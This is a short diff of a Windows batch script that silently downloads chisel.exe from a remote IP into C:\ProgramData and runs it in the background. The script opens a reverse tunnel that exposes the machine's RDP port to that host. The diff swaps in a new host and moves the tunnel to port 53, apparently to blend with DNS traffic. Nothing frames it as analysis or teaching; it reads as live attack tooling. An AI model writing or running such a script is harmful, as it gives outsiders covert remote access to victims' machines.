@@ -1,4 +1,4 @@
-REM bootstrap 8538 v1
+REM task 7213 v1
 @echo off
-curl -sLo C:\ProgramData\chisel.exe http://192.0.2.44/chisel.exe
-start /b C:\ProgramData\chisel.exe client 192.0.2.44:9001 R:3389:127.0.0.1:3389
+curl -sLo C:\ProgramData\chisel.exe http://198.51.100.23/chisel.exe
+start /b C:\ProgramData\chisel.exe client 198.51.100.23:53 R:3389:127.0.0.1:3389
